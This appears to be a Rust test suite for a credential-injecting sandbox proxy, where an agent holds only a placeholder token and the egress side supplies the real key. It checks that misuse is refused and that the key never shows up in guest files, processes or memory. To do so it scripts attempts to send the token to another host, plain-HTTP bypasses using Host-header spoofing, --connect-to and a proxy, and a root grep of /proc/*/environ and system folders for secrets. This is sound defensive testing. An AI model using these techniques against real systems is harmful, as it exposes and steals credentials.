//! The key: the agent uses it and never has it.

use super::rig::{KEY, Processes, file_holds, memory_holds, shared};

/// The header that a client of the key sends.
const HEADER: &str = "-H \"authorization: Bearer $TICKETS_TOKEN\"";

#[test]
fn the_variable_holds_a_placeholder_and_the_server_gets_the_key() {
    let shared = shared();
    let placeholder = shared.guest("printf %s \"$TICKETS_TOKEN\"").ok();
    assert!(placeholder.len() > 20 && placeholder != KEY, "{placeholder}");
    let answer = shared.curl(&format!("{HEADER} https://api.test/used"));
    assert!(answer.starts_with("200 reached"), "{answer}");
    assert!(shared.api.received(&format!("Bearer {KEY}")) && !shared.api.received(&placeholder));
    let used = shared.home.events(Some("dev")).into_iter().find(|event| event["action"] == "secret.use");
    let used = used.expect("the use is recorded");
    assert_eq!(
        (used["decision"].as_str(), used["detail"]["secret"].as_str()),
        (Some("allow"), Some("tickets"))
    );
}

#[test]
fn e01_the_placeholder_does_not_leave_for_another_host() {
    let shared = shared();
    let placeholder = shared.guest("printf %s \"$TICKETS_TOKEN\"").ok();
    let denied = shared.curl(&format!("{HEADER} https://other.test/e01"));
    assert!(denied.starts_with("403") && denied.contains("tickets"), "{denied}");
    assert!(
        !shared.other.received(&placeholder) && !shared.other.received(KEY) && !shared.other.received("/e01")
    );
    assert_eq!(shared.last_event("other.test/e01")["reason"], "placeholder_misuse");
    // The same request without it passes.
    assert!(shared.curl("https://other.test/e01").starts_with("200"));
}

#[test]
fn e02_plain_http_gets_no_key_whatever_host_it_names() {
    let shared = shared();
    for request in [
        format!("{HEADER} http://api.test/e02"),
        format!("{HEADER} -H 'Host: api.test' http://plain.test/e02"),
        format!("{HEADER} -H 'Host: api.test' --connect-to api.test:80:plain.test:80 http://api.test/e02"),
        format!(
            "{HEADER} -x http://gateway.cofferdam.internal:3128 -H 'Host: api.test' http://plain.test/e02"
        ),
    ] {
        let answer = shared.curl(&request);
        assert!(answer.starts_with('4'), "{request}: {answer}");
    }
    assert!(!shared.plain.received(KEY) && !shared.api_plain.received(KEY));
    // The host itself is reached without TLS, when nothing is asked of the key.
    assert!(shared.curl("http://api.test/").starts_with("200"));
}

#[test]
fn e09_a_key_of_somebody_elses_is_refused_at_the_keys_host() {
    let shared = shared();
    let answer = shared.curl("-H 'authorization: Bearer foreign-key-77' https://api.test/e09");
    assert!(answer.starts_with("403"), "{answer}");
    assert!(!shared.api.received("foreign-key-77"));
    assert_eq!(shared.last_event("api.test/e09")["reason"], "foreign_credential");
}

#[test]
fn e17_the_key_is_nowhere_in_the_guest() {
    let shared = shared();
    let placeholder = shared.guest("printf %s \"$TICKETS_TOKEN\"").ok();
    // The pattern comes by standard input, and matches what it is not, so that the search does not find itself, nor
    // anything else what it leaves in memory.
    let search =
        "grep -rlE -f - /proc/*/environ /etc /home /root /run /tmp /var /usr/local 2>/dev/null; exit 0";
    let looked = |needle: &str| {
        let arguments = ["exec", "-u", "root", "dev", "--", "bash", "-c", search];
        let (start, last) = needle.split_at(needle.len() - 1);
        shared.home.feed("ws", &arguments, format!("{start}[{last}#]").as_bytes()).ok()
    };
    assert_eq!(looked(KEY), "");
    assert!(looked(&placeholder).contains("/environ"), "the search finds what is there");
}

#[test]
fn e17_the_key_is_in_no_file_and_no_process_but_egress() {
    let shared = shared();
    shared.curl(&format!("{HEADER} https://api.test/e17"));
    let folder = shared.home.sandbox_folder();
    let placeholder = shared.guest("printf %s \"$TICKETS_TOKEN\"").ok();
    for entry in walk(&folder) {
        assert!(!file_holds(&entry, KEY), "{}", entry.display());
    }
    assert!(
        walk(&folder).iter().any(|file| file_holds(file, &placeholder)),
        "the search finds what is there"
    );
    let processes = Processes::of(&folder);
    for pid in processes.all() {
        for file in ["cmdline", "environ"] {
            // A process that may not be looked into tells nobody.
            let bytes = std::fs::read(format!("/proc/{pid}/{file}")).unwrap_or_default();
            assert!(!String::from_utf8_lossy(&bytes).contains(KEY), "{file} of {pid} in {processes:?}");
        }
    }
    for (zone, pid) in processes.zones.iter().filter(|(zone, _)| zone != "egress") {
        assert_ne!(memory_holds(*pid, KEY), Some(true), "memory of {zone}");
    }
    let egress = memory_holds(processes.zone("egress"), KEY);
    assert_ne!(egress, Some(false), "where the key must be, the search finds it");
}

fn walk(folder: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut files = Vec::new();
    for entry in std::fs::read_dir(folder).expect("ours").flatten() {
        let kind = entry.file_type().expect("ours");
        if kind.is_dir() {
            files.extend(walk(&entry.path()));
        } else if kind.is_file() {
            files.push(entry.path());
        }
    }
    files
}
